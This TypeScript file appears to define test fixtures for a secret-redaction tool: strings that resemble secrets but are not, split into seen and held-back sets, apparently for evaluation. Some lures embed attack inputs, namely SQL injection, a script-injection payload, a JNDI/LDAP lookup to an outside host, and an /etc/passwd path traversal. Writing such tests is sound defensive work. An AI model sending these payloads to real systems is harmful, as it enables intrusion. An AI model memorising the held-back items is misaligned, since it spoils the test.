import type { Seeded } from './seeded.ts';

/** A text that has to stay as it is, though it looks as if it told a secret. */
export interface Lure {
  readonly id: string;
  write(seeded: Seeded): string;
}

const lure = (id: string, write: (seeded: Seeded) => string): Lure => ({ id, write });

export const seenLures: readonly Lure[] = [
  lure('commit beside a key word', (s) => `token service now at commit ${s.hex(40)}`),
  lure('idempotency key', (s) => `Idempotency-Key: ${s.uuid()}`),
  lure('access key id', (s) => `aws_access_key_id=AKIA${s.chars('ABCDEFGHIJKLMNOP234567', 16)}`),
  lure('key id', (s) => `{"kid":"${s.machine(22)}","keyId":"${s.uuid()}"}`),
  lure('session of a database log', (s) => `session_id=${s.hex(8)}.${s.hex(3)} user=app`),
  lure(
    'count of tokens',
    (s) => `prompt_tokens=${s.int(9_000)} max_tokens=${s.int(9_000)} token_count=${s.int(9)}`,
  ),
  lure('image digest', (s) => `image: registry.example/auth@sha256:${s.hex(64)}`),
  lure('public key', (s) => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${s.base64(43)} deploy`),
  lure(
    'certificate',
    (s) => `-----BEGIN CERTIFICATE-----\n${s.base64(64)}\n${s.base64(64)}\n-----END CERTIFICATE-----`,
  ),
  lure('placeholder of a shell', (s) => `DB_PASSWORD=\${DB_PASSWORD_${s.int(9)}} API_TOKEN=$API_TOKEN`),
  lure('placeholder of a template', (s) => `password: {{ .Values.db.password${s.int(9)} }}`),
  lure('placeholder in a guide', () => 'export API_TOKEN=<your-token> password=<password>'),
  lure(
    'column definition',
    (s) => `CREATE TABLE users${s.int(9)} (id bigint, password text NOT NULL, token varchar(64))`,
  ),
  lure('bound insert', (s) => `INSERT INTO users${s.int(9)} (id, password) VALUES ($1, $2)`),
  lure('attack in a password', (s) => `GET /login?password=' OR '${s.int(9)}'='${s.int(9)}`),
  lure('attack in a cookie', (s) => `"args":"password=%27%20UNION%20SELECT%20${s.int(9)},2--%20-&x=1"`),
  lure('script in a password', (s) => `user=a&password=<script>alert(${s.int(99)})</script>`),
  lure('mask', () => 'password=******** token=xxxxxxxx secret=[REDACTED]'),
  lure('words with pass', (s) => `passenger=${s.int(99)} bypass=true compass=north passed=${s.int(99)}`),
  lure(
    'author and monkey',
    (s) => `author=smith monkey=${s.letters(8)} keyboard=us authority=shop.example:443`,
  ),
  lure(
    'base64 of ordinary JSON',
    (s) =>
      `cursor ${Buffer.from(`{"order":"${s.uuid()}","page":${s.int(9)},"sort":"asc"}`).toString('base64')}`,
  ),
  lure('image in base64', (s) => `data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAA${s.base64(120)}`),
  lure(
    'secret of Kubernetes by name',
    () => 'secretName: shop-tls\n  secretKeyRef:\n    name: db-credentials\n    key: password',
  ),
];

export const heldBackLures: readonly Lure[] = [
  lure('partition key', (s) => `partitionKey="${s.machine(20)}" sortKey="${s.uuid()}"`),
  lure('fingerprint', (s) => `key fingerprint SHA256:${s.base64(43)} (ED25519)`),
  lure('trace header', (s) => `traceparent: 00-${s.hex(32)}-${s.hex(16)}-01`),
  lure('cache key', (s) => `cache key: npm-linux-${s.hex(64)}`),
  lure(
    'environment read in code',
    () => 'const password = process.env.DB_PASSWORD; token = os.environ["API_TOKEN"]',
  ),
  lure('function call in code', () => 'password = getPassword(user); secret := vault.Read(path)'),
  lure('type in code', () => 'function login(password: string, token: Token): Promise<Session>'),
  lure('token type', () => '{"token_type":"Bearer","expires_in":3600,"scope":"read"}'),
  lure('state of a token', () => 'token: expired; session: invalid; cookie=absent; auth=required'),
  lure(
    'resource of a secret',
    (s) => `arn:aws:secretsmanager:eu-west-1:111122223333:secret:prod/db-${s.letters(6)}`,
  ),
  lure('paging token', (s) => `{"nextToken":"${s.base64(60)}"}`),
  lure('etag and digest', (s) => `ETag: "${s.hex(32)}" Digest: sha-256=${s.base64(43)}=`),
  lure(
    'order behind a key word',
    (s) => `key order:${s.digits(12)} set, key user:${s.digits(6)}:cart deleted`,
  ),
  lure(
    'UUID as an id of a session',
    (s) => `resourceVersion=${s.digits(9)} uid=${s.uuid()} requestId=${s.uuid()}`,
  ),
  lure('integrity', (s) => `"integrity": "sha512-${s.base64(86)}=="`),
  lure('reset link wording', () => 'password reset requested; the token was sent; key rotation done'),
  lure('template attack in a token', (s) => `GET /?token=\${jndi:ldap://203.0.113.${s.int(250)}/a}`),
  lure('path attack in a password', () => 'POST /login password=../../../../etc/passwd&x=1'),
  lure('attack in a form', (s) => `user=admin&passwd=1%27+OR+${s.int(9)}%3D${s.int(9)}--+`),
  lure('GitHub expression', () => 'password: ${{ secrets.DB_PASSWORD }}'),
  lure('file of a secret', () => 'POSTGRES_PASSWORD_FILE=/run/secrets/pg PASSWORD_HASH_ALGORITHM=bcrypt'),
  lure('percent-encoded words', (s) => `q=${encodeURIComponent(`red & blue "shoes" <${s.int(99)}>`)}`),
  lure(
    'base64 of HTML',
    (s) =>
      `body ${Buffer.from(`<html><body><p>order ${s.digits(9)} is late</p></body></html>`).toString('base64')}`,
  ),
];
